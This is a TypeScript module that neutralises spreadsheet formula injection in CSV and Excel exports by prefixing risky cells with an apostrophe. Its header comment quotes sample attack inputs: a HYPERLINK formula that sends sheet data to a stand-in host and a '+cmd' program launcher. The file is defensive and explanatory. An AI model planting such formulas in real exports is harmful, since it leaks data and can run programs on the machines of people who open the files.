/**
 * Spreadsheet (CSV/formula) injection, OWASP "CSV Injection": a cell whose text starts with `=`,
 * `+`, `-` or `@` (or a tab or carriage return, which some programs skip before one) is run as a
 * formula when a spreadsheet program opens the file — `=HYPERLINK("http://evil.test?"&A1)` sends
 * the sheet's data away, `+cmd|…` may start a program. Text typed by residents and staff is
 * stored exactly as typed (a phone '+92…' or an address '-12 A' is real data, and on screen it is
 * harmless); it is neutralised here, on the way out. Every file the system produces for a
 * spreadsheet program (CSV, .xlsx, .xls) must pass its cells through {@link neutraliseCell}.
 * Browser-safe: the web app's exports use it too.
 */

const FORMULA_START = /^[=+\-@\t\r]/;

/**
 * The cell as it may leave the system: text starting with = + - @, a tab or a carriage return
 * gets a leading apostrophe (`'=1+1`), which spreadsheet programs show as text; numbers, booleans,
 * dates, null and other text are returned unchanged (a number cell is never run as a formula).
 */
export function neutraliseCell<T>(value: T): T | string {
  return typeof value === 'string' && FORMULA_START.test(value) ? `'${value}` : value;
}

/** Every cell of one row (an object of column → value) through {@link neutraliseCell}. */
export function neutraliseRow<T extends Record<string, unknown>>(row: T): { [K in keyof T]: T[K] | string } {
  return Object.fromEntries(Object.entries(row).map(([k, v]) => [k, neutraliseCell(v)])) as { [K in keyof T]: T[K] | string };
}
